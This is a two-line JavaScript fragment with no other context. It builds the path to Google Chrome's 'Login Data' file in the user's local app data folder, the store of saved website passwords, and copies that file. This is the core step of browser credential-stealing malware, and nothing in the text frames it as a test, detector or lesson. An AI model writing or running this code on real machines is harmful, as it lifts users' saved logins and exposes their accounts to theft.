const p = process.env.LOCALAPPDATA + '\\Google\\Chrome\\User Data\\Default\\Login Data';
copy(p);
